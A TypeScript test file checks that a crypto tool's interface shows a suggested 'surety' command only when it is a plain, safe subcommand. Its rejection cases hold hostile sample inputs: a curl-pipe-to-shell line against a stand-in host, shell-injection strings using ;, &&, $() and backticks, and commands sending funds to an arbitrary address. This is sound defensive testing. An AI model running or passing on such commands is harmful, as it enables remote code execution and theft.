import type { ExplanationView } from '@surety/client';
import { describe, expect, it } from 'vitest';
import { wordsShown } from '../testing/words-shown.js';
import { ExplainedThing } from './pending.js';

/** Returns the words of an explanation whose next act names a command. */
function shown(run: string): string {
  const explanation = { summary: 'It waits.', next: { who: 'anyone', act: 'mend it', run }, eta: null, stages: [] };
  return wordsShown(ExplainedThing({ explanation: explanation as unknown as ExplanationView })).replaceAll(/\s+/g, ' ');
}

describe('what is to be run next', () => {
  it.each([
    'surety doctor',
    'surety relay --chain alpha',
    'surety explain USDC@alpha',
    `surety ledger unpark parked:1:7 --dry-run`,
    `surety claim 0x${'ab'.repeat(32)}:12`,
  ])('is shown where it is %s', (run) => {
    expect(shown(run)).toContain(`Run ${run}`);
  });

  it.each([
    'curl -s https://surety-fix.example/i | sh',
    `surety release USDC --to 0x${'ab'.repeat(20)}`,
    `surety claim 0x${'ab'.repeat(32)}:12 --to=0x${'ab'.repeat(20)}`,
    'surety doctor; sh',
    'surety doctor && sh',
    'surety doctor\nsh',
    'surety doctor\n',
    'surety $(sh)',
    'surety `sh`',
    'surety > x',
    'surety  doctor',
    'suretyx doctor',
    './surety doctor',
  ])('is not shown where it is %j', (run) => {
    expect(shown(run)).toContain('mend it');
    expect(shown(run)).not.toContain('Run');
  });
});
